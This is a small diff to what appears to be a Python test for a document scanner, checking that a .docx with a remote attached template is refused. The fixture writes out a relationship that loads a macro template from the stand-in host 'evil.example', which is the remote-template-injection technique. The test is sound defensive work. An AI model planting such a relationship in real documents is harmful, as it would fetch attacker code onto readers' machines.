@@ -150,7 +150,8 @@ def test_turns_away(look, name, data, code):
 def test_remote_template_is_refused(look):
     relations = (
         b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        b'<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'<Relationship Id="r" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
         b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
     )
     package = samples.with_member(samples.docx_bytes(), "word/_rels/settings.xml.rels", relations)
